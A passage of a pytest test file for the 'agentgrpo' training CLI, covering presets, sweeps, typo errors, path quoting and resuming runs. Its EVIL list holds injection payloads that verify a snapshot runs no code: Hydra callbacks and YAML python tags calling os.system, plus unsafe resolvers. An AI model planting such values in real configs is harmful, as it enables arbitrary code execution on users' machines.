"""The command line: verbs, presets in both spellings, sweeps, typos, quoting, resuming, secrets."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator, Sequence
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from agentgrpo.cli import main as cli
from agentgrpo.cli.jobs import report
from agentgrpo.cli.main import complete, main, parse
from agentgrpo.config import build, registry
from agentgrpo.config.admission import needed_overrides
from agentgrpo.config.compose import Presets, read_snapshot
from agentgrpo.config.overrides import brought
from agentgrpo.core.commands import SETTINGS, SHARED_FLAGS, VERBS, Command, VerbResult
from agentgrpo.core.errors import ConfigError, DataError, MalformedRows, Preempted, RunDirectoryError
from agentgrpo.grpo.advantages import GroupRewards
from agentgrpo.grpo.losses import LossInputs, TokenLoss, clipped
from tests.thorough import siblings

HERE = "tests.test_cli"
ROOT = Path(cli.__file__).parents[2]
JOBS: list[tuple[dict[str, Any], Command]] = []
OUTCOMES: list[VerbResult | BaseException] = []


def keep(config: dict[str, Any], command: Command) -> VerbResult:
    JOBS.append((config, command))
    outcome = OUTCOMES.pop(0) if OUTCOMES else VerbResult()
    if isinstance(outcome, BaseException):
        raise outcome
    return outcome


class OfMine:
    """A user's term."""


class Shop:
    """A user's environment."""

    def __init__(self, discount: float = 0.0) -> None:
        self.discount = discount

    def buy(self, item: str) -> str:
        """Buys it."""
        return item


class Mine:
    """A user's judge."""

    def __init__(self, *, strength: float) -> None:
        self.strength = strength


def own_loss(x: LossInputs, *, strength: float = 1.0) -> TokenLoss:
    """A user's loss."""
    return clipped(x, clip_high=strength)


def own_advantage(groups: Sequence[GroupRewards]) -> list[list[float | None]]:
    """A user's advantage."""
    return [list(g.totals) for g in groups]


@pytest.fixture(autouse=True)
def verbs(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """Every verb ends in `keep`, in an empty directory."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(build, "_admitted", set())
    for name, verb in VERBS.items():
        monkeypatch.setitem(VERBS, name, replace(verb, summary="", entry=f"{HERE}:keep"))
    yield
    JOBS.clear()
    OUTCOMES.clear()


def jobs(*argv: str) -> list[tuple[dict[str, Any], Command]]:
    assert main(argv) == 0
    kept = JOBS.copy()
    JOBS.clear()
    return kept


def job(*argv: str) -> tuple[dict[str, Any], Command]:
    (only,) = jobs(*argv)
    return only


def written(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


# --- presets


def test_a_check_makes_no_run_directory(tmp_path: Path) -> None:
    config, command = job("check", "numerics", "--json", "hardware=single_gpu", "hardware.dtype=bfloat16")
    assert (config["hardware"]["device"], config["hardware"]["dtype"]) == ("cuda", "bfloat16")
    assert command.arguments == {"json": True, "labels": None, "what": "numerics"}
    assert written(tmp_path) == []
    job("train")
    assert written(tmp_path)[0] == "runs"


@pytest.mark.parametrize(
    ("words", "own"),
    [
        (["model.path=m", "task.questions=q", "task.corpus=c"], ["model.path", "task.questions", "task.corpus"]),
        (["model=qwen3_0_6b", "task.questions=q"], ["task.questions"]),
        (["task=questions", "++task.sources.own.path=q", "model=path"], ["task.sources.own.path"]),
        (["model=path", "model.path=m"], []),  # in the embedded world
        (["experiment=tools", "model.path=m", "task.questions=q"], []),
        (["experiment=a,b", "model.path=m"], []),
        (["model=smollm2", "task.nouns=40"], []),
    ],
)
def test_what_a_command_line_brings_of_the_users_own(words: list[str], own: list[str]) -> None:
    assert brought(words) == own


def test_what_is_the_users_own_leaves_the_embedded_example(capsys: pytest.CaptureFixture[str]) -> None:
    config, command = job("train", *OWN_DATA, "run.dir=r")
    said = "agentgrpo: note: task.questions, task.corpus, model.path: your own, so experiment=none\n"
    assert capsys.readouterr().err == said
    assert command.choices["experiment"] == "none"
    assert (config["task"]["questions"], config["rollout"]["stratify_by"]) == ("q", None)
    assert main(["train", "model.path=m"]) == 2
    assert capsys.readouterr().err.splitlines() == [
        "agentgrpo: note: model.path: your own, so experiment=none",
        "agentgrpo: task.questions has no value; give it one: task.questions=...",
    ]


def test_every_malformed_row_has_a_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    assert report(MalformedRows("2 malformed rows:\n  q, line 1: x\n  q, line 3: y")) == 2
    assert report(DataError("one\n  line")) == 2
    said = ["agentgrpo: 2 malformed rows:", "  q, line 1: x", "  q, line 3: y", "agentgrpo: one line"]
    assert capsys.readouterr().err.splitlines() == said


def test_an_export_has_flags_and_no_configuration(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config, command = job("export", "--ckpt", "a b", "--merge", "out")
    none = {"preferences": None, "run": None, "feedback": None}
    assert (config, command.arguments) == ({}, {"ckpt": "a b", "merge": "out", **none})
    for stray in (["run.seed=1"], ["-m"], ["--cfg", "job"]):
        assert main(["export", "--ckpt", "a", "--merge", "b", *stray]) == 2
        error = capsys.readouterr().err
        assert error.startswith("agentgrpo: export has no settings, only --ckpt and --merge and ")
    assert (JOBS, written(tmp_path)) == ([], [])


def test_an_episode_is_shown_without_a_configuration(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config, command = job("show", "runs/x", "--episode", "d/0", "--step", "3")
    assert (config, command.arguments) == (
        {},
        {"run_dir": "runs/x", "episode": "d/0", "list": False, "file": None, "step": "3"},
    )
    assert main(["show"]) == 2
    assert capsys.readouterr().err == "agentgrpo: show needs RUN_DIR: agentgrpo show RUN_DIR ...\n"
    assert main(["show", "runs/x", "run.seed=1"]) == 2
    error = "agentgrpo: show has no settings, only --episode and --list and --file and --step; leave out run.seed=1\n"
    assert (capsys.readouterr().err, JOBS, written(tmp_path)) == (error, [], [])


@pytest.mark.parametrize("spelling", ["reward=second_pass", "+reward=second_pass", "++reward=second_pass"])
def test_both_spellings_choose_the_preset(spelling: str) -> None:
    config, command = job("train", spelling)
    assert list(config["reward"]["terms"]) == [
        "correctness",
        "per_search",
        "citation_support",
        "unsupported_claim",
        "duplicate_query",
    ]
    assert (command.choices["reward"], command.overrides) == ("second_pass", ("reward=second_pass",))


def test_plus_works_for_every_group() -> None:
    chosen = {group: names[-1] for group, names in cli.presets().items()}
    chosen |= {
        "experiment": "none",
        "task": "jsonl",
        "model": "path",
        "demonstrations": "oracle",
    }  # those that OWN_DATA is for
    chosen |= {"environment": "search", "retriever": "faiss_index"}  # which have every group that such a part can have
    _, command = job("train", *(f"+{group}={name}" for group, name in chosen.items()), *OWN_DATA)
    assert command.choices == chosen


@pytest.mark.parametrize(
    "spelling",
    ["reward=shaped,search_r1", pytest.param("+reward=choice(shaped,search_r1)", marks=pytest.mark.slow)],
)
def test_sweeps(spelling: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    found = jobs("train", "-m", spelling, "run.seed=7")
    assert [(c["run"]["seed"], o.choices["reward"]) for c, o in found] == [(7, "shaped"), (7, "search_r1")]
    directories = [Path(c["run"]["dir"]) for c, _ in found]
    assert [d.name for d in directories] == ["0", "1"]
    assert re.fullmatch(r"almanac-\d{8}-\d{6}-[0-9a-f]{8}", directories[0].parent.name)
    assert directories[0].parent == directories[1].parent
    assert directories[0].parents[1] == tmp_path / "runs"
    assert capsys.readouterr().err.splitlines() == [
        f"agentgrpo: {directories[0]}: reward=shaped run.seed=7",
        f"agentgrpo: {directories[1]}: reward=search_r1 run.seed=7",
    ]


@pytest.mark.slow
def test_a_sweep_in_a_named_directory(tmp_path: Path) -> None:
    found = jobs("train", "--multirun", "run.dir='a sweep, = \"quoted\"'", "optimizer.lr=0.1,0.2")
    assert [c["optimizer"]["lr"] for c, _ in found] == [0.1, 0.2]
    assert [Path(c["run"]["dir"]) for c, _ in found] == [tmp_path / 'a sweep, = "quoted"' / n for n in "01"]


@pytest.mark.slow
def test_a_sweep_goes_on_after_a_failure_and_reports_it(capsys: pytest.CaptureFixture[str]) -> None:
    OUTCOMES.extend([RunDirectoryError("in use"), VerbResult(exit_code=9)])
    assert main(["train", "-m", "run.seed=0,1"]) == 3
    assert len(JOBS) == 2
    assert capsys.readouterr().err.count("agentgrpo: in use\n") == 1


@pytest.mark.slow
def test_jobs_that_fail_leave_nothing_and_are_listed_at_the_end(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    OUTCOMES.extend([ConfigError("no\nsuch model"), VerbResult(), VerbResult(exit_code=9), KeyError("k")])
    assert main(["train", "-m", "run.dir=sweep", "run.seed=0,1,2,3", "run.max_steps=5"]) == 2
    sweep = tmp_path / "sweep"
    assert capsys.readouterr().err.splitlines()[-4:] == [
        "agentgrpo: 3 of 4 jobs failed:",
        f"agentgrpo:   {sweep / '0'}: run.seed=0: no such model",
        f"agentgrpo:   {sweep / '2'}: run.seed=2: exit code 9",
        f"agentgrpo:   {sweep / '3'}: run.seed=3: KeyError: 'k'",
    ]
    assert written(sweep) == ["1", "2", "multirun.yaml"]


@pytest.mark.slow
def test_a_sweep_all_of_which_is_refused_leaves_nothing_but_what_was_there(tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    for folder in ("ours", "mine"):
        OUTCOMES.extend([ConfigError("no"), ConfigError("no")])
        assert main(["train", "-m", f"run.dir={folder}", "run.seed=0,1"]) == 2
    assert written(tmp_path) == ["mine", "mine/multirun.yaml"]


def test_an_interrupt_leaves_no_directory(tmp_path: Path) -> None:
    OUTCOMES.append(KeyboardInterrupt())
    assert main(["train"]) == 130
    assert written(tmp_path) == ["runs"]


@pytest.mark.parametrize(
    ("stop", "code"),
    [
        (Preempted("stopped by SIGTERM"), 75),
        pytest.param(KeyboardInterrupt(), 130, marks=pytest.mark.slow),
    ],
)
@pytest.mark.slow
def test_a_stop_ends_the_sweep(stop: BaseException, code: int) -> None:
    OUTCOMES.extend([stop, VerbResult()])
    assert main(["train", "-m", "run.seed=0,1"]) == code
    assert len(JOBS) == 1


@pytest.mark.parametrize("name", ["my configs", "it's \\a", "[a,b]=${a}"])
def test_presets_of_your_own(tmp_path: Path, name: str) -> None:
    mine = tmp_path / name
    (mine / "judge").mkdir(parents=True)
    (mine / "experiment").mkdir()
    (mine / "judge" / "strict.yaml").write_text(f"name: {HERE}:Mine\nstrength: 2\n", encoding="utf-8")
    overlay = "# @package _global_\ndefaults:\n  - override /judge: strict\noptimizer:\n  lr: 0.5\n"
    (mine / "experiment" / "mine.yaml").write_text(overlay, encoding="utf-8")
    config, command = job("train", "--config-dir", str(mine), "+judge=strict")
    assert config["judge"] == {"name": f"{HERE}:Mine", "strength": 2}
    config, command = job("train", "-cd", str(mine), "experiment=mine", "experiment=none", "experiment=mine", *OWN_DATA)
    assert (config["judge"]["strength"], config["optimizer"]["lr"], command.choices["judge"]) == (2, 0.5, "strict")
    assert command.choices["experiment"] == "mine"


OWN_DATA = ("task.questions=q", "task.corpus=c", "model.path=m")


# --- run directories


def test_run_directories_are_fresh_and_made(tmp_path: Path) -> None:
    names = [job("train")[0]["run"]["dir"] for _ in range(2)]
    names.append(job("train", "experiment=none", *OWN_DATA)[0]["run"]["dir"])
    assert [re.sub(r"-\d{8}-\d{6}-[0-9a-f]{4}$", "", n) for n in names] == [
        "runs/almanac",
        "runs/almanac",
        "runs/jsonl",
    ]
    assert written(tmp_path) == sorted(["runs", *names])
    assert len(set(names)) == 3


def test_a_taken_directory_is_not_shared(monkeypatch: pytest.MonkeyPatch) -> None:
    tokens = iter(["aaaa", "aaaa", "bbbb"])
    monkeypatch.setattr("agentgrpo.config.compose.secrets.token_hex", lambda _: next(tokens))
    monkeypatch.setattr("agentgrpo.config.overrides.time.strftime", lambda _: "now")
    assert [job("train")[0]["run"]["dir"] for _ in range(2)] == ["runs/almanac-now-aaaa", "runs/almanac-now-bbbb"]


def test_nothing_else_is_written(tmp_path: Path) -> None:
    config, command = job("train", "run.dir=elsewhere/x")
    assert (written(tmp_path), config["run"]["dir"], Path.cwd()) == ([], "elsewhere/x", tmp_path)
    assert main(["train", "+lrr=3"]) == 2
    assert main(["train", "optimizer.lr=high"]) == 2
    assert written(tmp_path) == []
    assert command.snapshot.startswith("# agentgrpo resume 'elsewhere/x'\n# composed from ")


def test_where_no_directory_can_be_made(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "runs").write_text("a file", encoding="utf-8")
    assert main(["train"]) == 5
    assert re.fullmatch(
        r"agentgrpo: cannot make runs/almanac-\S+: Not a directory; give run\.dir=PATH a place that can be written\n",
        capsys.readouterr().err,
    )


# --- typos: one line on stderr, exit code 2, no traceback

GROUPS = (
    "task, model, demonstrations, engine, retriever, counterfactual, tools, judge, reward, suite, environment, "
    "rollout, algorithm, optimizer, guards, cassette, budget, hardware, run"
)
ADAMW = "lr, betas, weight_decay, eps, warmup_steps, final_fraction, max_grad_norm"
VERB_NAMES = (
    "train, sft, eval, resume, plan, export, show, view, doctor, replay, diff, report, check, data, index, "
    "serve-retriever, serve-environment"
)
JUDGES = (
    "choice, composite, contains, exact_match, gold_agreement, judger, keywords, llm, llm_local, math, numeric, "
    "questions, questions_by_metric, report, report_llm, route, token_f1, or code of your own: package.module:Name"
)
TYPOS = [
    ("trian", f"verb 'trian'; allowed are {VERB_NAMES}. Did you mean 'train'?"),
    ("reward=shaped", f"verb 'reward=shaped'; allowed are {VERB_NAMES}."),
    ("train judge=token_f2", f"judge=token_f2; presets are {JUDGES}. Did you mean 'token_f1'?"),
    ("train -m judge=exact_match,token_f2", f"judge=token_f2; presets are {JUDGES}. Did you mean 'token_f1'?"),
    ("train judge=3", f"judge=3; presets are {JUDGES}."),
    ("train jugde=contains", f"unknown key jugde; allowed are {GROUPS}. Did you mean 'judge'?"),
    ("train lrr=3", f"unknown key lrr; allowed are {GROUPS}."),
    ("train +lrr=3", f"unknown key lrr; allowed are {GROUPS}."),
    ("train optimizer.lrr=3", f"unknown key optimizer.lrr; allowed are name, {ADAMW}. Did you mean 'lr'?"),
    ("train +optimizer.lrr=3", f"unknown key optimizer.lrr; allowed are {ADAMW}. Did you mean 'lr'?"),
    ("train -m optimizer.lrr=3,4", f"unknown key optimizer.lrr; allowed are name, {ADAMW}. Did you mean 'lr'?"),
    (
        "train reward.terms.retriever_cost.webb=-1",
        "unknown key reward.terms.retriever_cost.webb; allowed are web, vdb. Did you mean 'web'?",
    ),
    (
        "train +reward.terms.retriever_cost.webb=-1",
        "unknown key reward.terms.retriever_cost.webb; allowed are web, vdb. Did you mean 'web'?",
    ),
    (
        "train reward=environment reward.terms.brief.name=my_terms:brief",
        "unknown key reward.terms.brief; allowed are outcome. Another term is added with a plus: +reward.terms.brief.*",
    ),
    (
        "train environment=my_env.Shop",
        "environment=my_env.Shop; presets are gymnasium, *. Did you mean 'my_env:Shop', with a colon?",
    ),
    (
        "train reward=search_r1 ~reward.terms.corectness",
        "unknown key reward.terms.corectness; allowed are correctness. Did you mean 'correctness'?",
    ),
    (
        "train environment=tools",
        "unknown key environment.top_k; *experiment=almanac sets it, *does not go with environment=tools: choose *",
    ),
    ("train experiment=memory +environment.top_k=3", "unknown key environment.top_k; allowed are schema, *validity."),
    ("train +run.max_step=3", "unknown key run.max_step; allowed are dir, seed, max_steps, *Did you mean 'max_steps'?"),
    ("train +run.eval.task=3", "unknown key run.eval.task; allowed are tasks, *Did you mean 'tasks'?"),
    ("train ~optimizer", "the group optimizer is missing; choose one of its presets: optimizer=..."),
    ("train optimizer=null", "optimizer=None; presets are adamw, diary_tiny, lora, sft, tiny, or code of your own: *"),
    ("train retriever_cost=1", "unknown key retriever_cost; * Did you mean reward.terms.retriever_cost?"),
    ("train KL_BETA=1", "unknown key KL_BETA. Here 'kl_beta' is algorithm.kl_coef."),
    ("train max_context=1", "unknown key max_context; * Did you mean engine.max_context or environment.max_context?"),
    ("train optimizer.lr=high", "optimizer.lr='high'; a finite number > 0, or null is allowed"),
    ("train run.max_steps=1.5", "run.max_steps=1.5; a whole number >= 1 is allowed"),
    ("train optimizer.name=adamm", "optimizer.name=adamm; registered are adamw; a class of your own is *'adamw'?"),
    ("train judge.name=no_such:Judge", "judge.name=no_such:Judge: No module named 'no_such'; it must be installed, *"),
    ("train experiment=none", "model.path and task.questions have no value; give each one: model.path=... *"),
    ("train experiment=none model.path=m", "task.questions has no value; give it one: task.questions=..."),
    ("train retriever_aware", "'retriever_aware' is no override; write key=value, +key=value or ~key, *"),
    ("train run.dir=[a", "'run.dir=[a' is no override; write key=value, *; as a text it is written *"),
    ("train run.seed=0,1", "run.seed=0,1: several values are a run each and need -m; a list is written key=[a,b], *"),
    ("train run.seed=${oc.env:AGENTGRPO_NOPE}", "run.seed: *Environment variable 'AGENTGRPO_NOPE' not found*"),
    ("train run.dir=${now:%Y}", "run.dir=${now:%Y}: resolver 'now'; allowed is oc.env. Write the value itself"),
    ("train --gate", "train has no flag --gate; its flags are --multirun, *"),
    ("eval --gat", "eval has no flag --gat; its flags are --ckpt, --baseline, --gate, *Did you mean '--gate'?"),
    ("train --lr 1e-5", "train has no flag --lr; *a setting is written KEY=VALUE. Here 'lr' is optimizer.lr."),
    (
        "train --num-generations=4",
        "train has no flag --num-generations=4; * Here 'num_generations' is rollout.group_size.",
    ),
    ("train help", "help is no setting; agentgrpo train --help says more of train"),
    ("train model=gpt2", "model=gpt2; presets are *; a folder, or a name of the hub, is model.path=gpt2."),
    ("train rollout.kl_coef=0.1", "unknown key rollout.kl_coef; allowed are * Did you mean algorithm.kl_coef?"),
    (
        "train -m reward=correctness,mine:short",
        "reward=correctness,mine:short: code of your own is no value of a sweep, *",
    ),
    ("eval --ckpt", "argument --ckpt: expected one argument"),
    ("train --cfg jobs", "argument -c/--cfg: invalid choice: 'jobs' (choose from 'job', 'hydra', 'all')"),
    ("train --resolve", "The --resolve flag can only be used in conjunction with --cfg or --help"),
    ("train --config-dir nowhere", "--config-dir nowhere is no directory; give the one that holds your presets"),
    ("resume", "resume needs RUN_DIR: agentgrpo resume RUN_DIR ..."),
    ("resume nowhere", "there is no nowhere/config.yaml; give the directory of a run, as agentgrpo train made it"),
]


@pytest.mark.parametrize(("line", "expected"), siblings(TYPOS, quick=20))
def test_a_typo_is_one_line(line: str, expected: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(line.split()) == 2
    output = capsys.readouterr()
    pattern = ".*".join(re.escape(part) for part in expected.split("*"))
    assert re.fullmatch(f"agentgrpo: {pattern}\n", output.err), output.err
    assert (output.out, JOBS) == ("", [])


def test_a_broken_file_of_the_users(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "judge").mkdir()
    (tmp_path / "judge" / "broken.yaml").write_text("name: [exact_match\nother: 1\n", encoding="utf-8")
    assert main(["train", "--config-dir", str(tmp_path), "judge=broken"]) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1
    assert "judge/broken.yaml" in error
    assert "line 2" in error


def test_a_bug_is_a_traceback_and_exit_code_1(capsys: pytest.CaptureFixture[str]) -> None:
    OUTCOMES.append(ZeroDivisionError("here"))
    assert main(["train"]) == 1
    assert capsys.readouterr().err.endswith("ZeroDivisionError: here\n")


def test_a_known_error_is_one_line_and_its_exit_code(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    OUTCOMES.append(RunDirectoryError("in use\n  by 7"))
    assert main(["train"]) == 3
    assert capsys.readouterr().err == "agentgrpo: in use by 7\n"
    monkeypatch.setenv("HYDRA_FULL_ERROR", "1")
    OUTCOMES.append(RunDirectoryError("in use"))
    assert main(["train"]) == 3
    assert capsys.readouterr().err.startswith("Traceback (most recent call last):\n")
    assert os.environ["HYDRA_FULL_ERROR"] == "1"


def test_the_exit_code_of_the_verb() -> None:
    OUTCOMES.append(VerbResult(exit_code=10))
    assert main(["eval", "--gate"]) == 10


# --- arguments of verbs

PATHS = [
    "plain",
    "a b",
    "a=b",
    "it's",
    'say "hi"',
    "back\\slash",
    "trailing\\",
    "ünïcödé-模型",
    "a,b",
    "{a}",
    "[a]",
    "${x}",
    "~/a",
    "a:b#c",
    "  spaces  ",
]


@pytest.mark.parametrize("path", PATHS)
def test_paths_are_parsed_as_they_are(path: str) -> None:
    arguments = parse("eval", ["--ckpt", path, f"--baseline={path}", "run.dir=r"])[1]
    assert arguments == {"ckpt": path, "baseline": path, "gate": False}


def test_paths_arrive_as_they_are() -> None:
    every = " ".join(PATHS)
    assert job("eval", "--ckpt", every, "run.dir=r")[1].arguments["ckpt"] == every


def test_flags_and_overrides_in_any_order() -> None:
    given, arguments, overrides = parse("eval", ["a=1", "--gate", "b=2", "--ckpt", "x", "c=3", "--config-dir", "d"])
    assert arguments == {"ckpt": "x", "baseline": None, "gate": True}
    assert (overrides, given["config_dir"], given["multirun"]) == (["a=1", "b=2", "c=3"], "d", False)


# --- resume


@cache
def snapshot() -> str:
    _, command = job("train", "reward=second_pass", "run.dir=x", "environment.system_prompt=${oc.env:HOME}")
    return command.snapshot


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "a run = 'é'"
    folder.mkdir()
    (folder / "config.yaml").write_text(snapshot(), encoding="utf-8")
    return folder


def test_resume_takes_the_runs_own_configuration(run_dir: Path) -> None:
    config, command = job("resume", str(run_dir), "run.max_steps=7")
    assert config["run"]["dir"] == str(run_dir)
    assert (config["run"]["max_steps"], config["environment"]["system_prompt"]) == (7, os.environ["HOME"])
    assert "unsupported_claim" in config["reward"]["terms"]
    assert command.arguments == {"run_dir": str(run_dir)}
    assert (command.overrides, command.choices) == (("run.max_steps=7",), {})
    (run_dir / "config.yaml").write_text(command.snapshot, encoding="utf-8")
    assert job("resume", str(run_dir))[0] == config


def test_files_of_a_run_are_named_from_where_it_was_begun(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    there, here = tmp_path / "there", tmp_path / "here"
    for folder in (there / "runs" / "own", here):
        folder.mkdir(parents=True)
    (there / "q.jsonl").write_text("{}\n")
    monkeypatch.chdir(there)
    settings = ("experiment=none", "model.path=m", "task.questions=q.jsonl", "run.dir=runs/own")
    (there / "runs" / "own" / "config.yaml").write_text(job("train", *settings)[1].snapshot, encoding="utf-8")
    assert job("resume", "runs/own")[0]["task"]["questions"] == "q.jsonl"
    capsys.readouterr()
    monkeypatch.chdir(here)
    assert main(["resume", "../there/runs/own"]) == 2
    said = f"task.questions=q.jsonl is not here; the run was begun in {there}: go there, or set task.questions"
    assert said in capsys.readouterr().err
    assert job("resume", "../there/runs/own", "task.questions=../there/q.jsonl")[0]["model"]["path"] == "m"


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        (["reward=shaped"], "reward=shaped: a resumed run keeps its presets and its directory; "),
        (["+reward=shaped"], "reward=shaped: a resumed run keeps its presets and its directory; "),
        (["run.dir=y"], "run.dir=y: a resumed run keeps its presets and its directory; "),
        (["run.max_step=1"], "unknown key run.max_step; allowed are dir, seed, max_steps, "),
        (["+run.max_step=1"], "unknown key run.max_step; allowed are dir, seed, max_steps, "),
        (["-m", "run.seed=0,1"], "resume goes on with one run; "),
    ],
)
def test_what_resume_refuses(
    run_dir: Path, overrides: list[str], expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["resume", str(run_dir), *overrides]) == 2
    error = capsys.readouterr().err
    assert (error.startswith(f"agentgrpo: {expected}"), error.count("\n")) == (True, 1), error


EVIL = [
    ("hydra: {callbacks: {x: {_target_: os.system, command: touch pwned}}}", "unknown key"),
    ("defaults: [{override hydra/launcher: joblib}]", "unknown key"),
    ("_target_: os.system", "unknown key"),
    ("judge: {name: exact_match, _target_: os.system}", "judge._target_ would name code to call"),
    ("reward: {name: weighted, terms: {x: {_partial_: true}}}", "reward.terms.x._partial_ would name code to call"),
    ("judge: {name: '${oc.decode:1}'}", "resolver 'oc.decode'"),
    ("judge: {name: '${hydra:runtime.cwd}'}", "resolver 'hydra'"),
    ("judge: {name: '${oc.env:${oc.select:x}}'}", "resolver 'oc.select'"),
    (
        "judge: {name: 'os:system'}",
        "judge.name=os:system is code from outside; to run it, name it on this command line",
    ),
    ("judge: {name: 'pathlib:Path.write_text'}", "judge.name=pathlib:Path.write_text; registered are"),
    ("judge: !!python/object/apply:os.system ['touch pwned']", "cannot be read"),
    ("- a list", "is no configuration"),
    ("judge: [", "cannot be read"),
]


@pytest.mark.parametrize(("text", "expected"), siblings(EVIL, quick=6))
def test_a_snapshot_runs_no_code(run_dir: Path, text: str, expected: str, capsys: pytest.CaptureFixture[str]) -> None:
    path = run_dir / "config.yaml"
    replaced = text.partition(":")[0]
    kept = re.sub(rf"^{replaced}:.*?(?=^\w)", "", path.read_text(encoding="utf-8"), flags=re.MULTILINE | re.DOTALL)
    path.write_text(text if text.startswith("-") else f"{kept}{text}\n", encoding="utf-8")
    assert main(["resume", str(run_dir)]) == 2
    error = capsys.readouterr().err
    assert expected in error
    assert (error.count("\n"), JOBS, (Path.cwd() / "pwned").exists()) == (1, [], False)


def test_user_code_is_resumed_when_named_again(run_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = run_dir / "config.yaml"
    mine = path.read_text(encoding="utf-8").replace("name: exact_match", f"name: {HERE}:Mine\n  strength: 2")
    path.write_text(mine, encoding="utf-8")
    assert main(["resume", str(run_dir)]) == 2
    assert "is code from outside" in capsys.readouterr().err
    config, _ = job("resume", str(run_dir), f"judge.name={HERE}:Mine")
    assert config["judge"] == {"name": f"{HERE}:Mine", "strength": 2}


@pytest.mark.slow
def test_an_environment_of_the_users_is_named_again_as_it_was_for_train(run_dir: Path) -> None:
    own = f"environment={HERE}:Shop"
    given = ("experiment=none", "task.questions=q", "model.path=m", "reward=environment", "environment.discount=0.5")
    trained, command = job("train", "run.dir=x", own, *given)
    (run_dir / "config.yaml").write_text(command.snapshot, encoding="utf-8")
    checkpoint = str(run_dir / "checkpoints" / "step-000001")
    for again in (("resume", str(run_dir)), ("eval", "--ckpt", checkpoint), ("replay", str(run_dir), "--all")):
        build._admitted.clear()
        assert job(*again, own)[0]["environment"] == trained["environment"]
    assert job("resume", str(run_dir), own, "environment.discount=1")[0]["environment"]["discount"] == 1


LOSS = f"algorithm.loss={HERE}:own_loss"


def test_a_loss_of_your_own_is_named_on_the_command_line_and_again(
    run_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With its arguments, to which no + belongs; a run directory alone runs nothing."""
    own = (LOSS, "algorithm.loss_args.strength=0.5", f"algorithm.advantage={HERE}:own_advantage")
    both = f"{own[0]} {own[2]}"
    config, command = job("train", "run.dir=x", *own)
    algorithm = build.build_node("algorithm", config["algorithm"])
    assert (algorithm.loss, algorithm.loss_args, algorithm.advantage) == (own_loss, {"strength": 0.5}, own_advantage)
    assert build.user_code(config) == {f"{HERE}:own_loss", f"{HERE}:own_advantage"}

    (run_dir / "config.yaml").write_text(command.snapshot, encoding="utf-8")
    build._admitted.clear()
    for given, missing in (((), both), (own[:1], own[2]), (own[2:], own[0])):
        assert main(["resume", str(run_dir), *given]) == 2
        error = f"agentgrpo: {missing.split()[0]} is code from outside; to run it, name it on this command line"
        assert capsys.readouterr().err == f"{error}: {missing}\n"
        build._admitted.clear()
    snapshot = read_snapshot(run_dir / "config.yaml")
    assert needed_overrides(snapshot, build.user_code(snapshot), run_dir) == [own[0], own[2]]
    for resumed in (("resume", str(run_dir)), ("eval", "--ckpt", str(run_dir / "checkpoints" / "step-000001"))):
        build._admitted.clear()
        assert job(*resumed, own[0], own[2])[0]["algorithm"] == config["algorithm"]


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (
            "loss=cipso",
            "algorithm.loss=cipso; registered are clipped, sequence_clipped, cispo, sapo, vespo, reinforce; ",
        ),
        ("loss=cipso", "; a function of your own is package.module:function. Did you mean 'cispo'?"),
        ("loss=my.mine", "function of your own is package.module:function. Did you mean 'my:mine', with a colon?"),
        ("advantage=zscore", "algorithm.advantage=zscore; registered are group_zscore, group_mean, "),
        ("loss=null", "algorithm.loss=None; registered are clipped, "),
        (f"loss={HERE}:own_los", "it must be installed, or importable from here. Did you mean 'own_loss'?"),
        ("loss_arg.clip_low=0.1", "unknown key algorithm.loss_arg; allowed are name, loss, loss_args, "),
    ],
)
def test_a_loss_that_is_not_there(given: str, expected: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["train", f"algorithm.{given}"]) == 2
    error = capsys.readouterr().err
    assert expected in error
    assert error.count("\n") == 1


def test_a_snapshot_of_an_older_version_is_read_with_its_loss(run_dir: Path) -> None:
    path = run_dir / "config.yaml"
    old = "{name: dapo, loss: clipped, clip_low: 0.2, clip_high: 0.28, clip_dual: null, vespo_k_positive: null}"
    kept = re.sub(r"^algorithm:.*?(?=^\w)", "", path.read_text(encoding="utf-8"), flags=re.MULTILINE | re.DOTALL)
    path.write_text(f"{kept}algorithm: {old}\n", encoding="utf-8")
    expected = {"name": "dapo", "loss": "clipped", "loss_args": {"clip_low": 0.2, "clip_high": 0.28}}
    assert job("resume", str(run_dir))[0]["algorithm"] == expected
    old = "{name: vespo, loss: vespo, clip_low: null, vespo_k_positive: 2.0, vespo_lambda_negative: 1.5}"
    path.write_text(f"{kept}algorithm: {old}\n", encoding="utf-8")
    assert read_snapshot(path)["algorithm"]["loss_args"] == {"k_positive": 2.0, "lambda_negative": 1.5}


def test_keys_that_a_preset_leaves_to_the_default_are_set_without_a_plus() -> None:
    config, _ = job("train", "algorithm=bnpo", "algorithm.num_epochs=2", "algorithm.loss_args.clip_high=0.3")
    assert (config["algorithm"]["num_epochs"], config["algorithm"]["loss_args"]) == (2, {"clip_high": 0.3})
    config, _ = job("train", "algorithm=dapo", "~algorithm.loss_args.clip_high", "hardware=fsdp", "hardware.threads=3")
    assert (config["algorithm"]["loss_args"], config["hardware"]["threads"]) == ({}, 3)


PROGRAMS = [
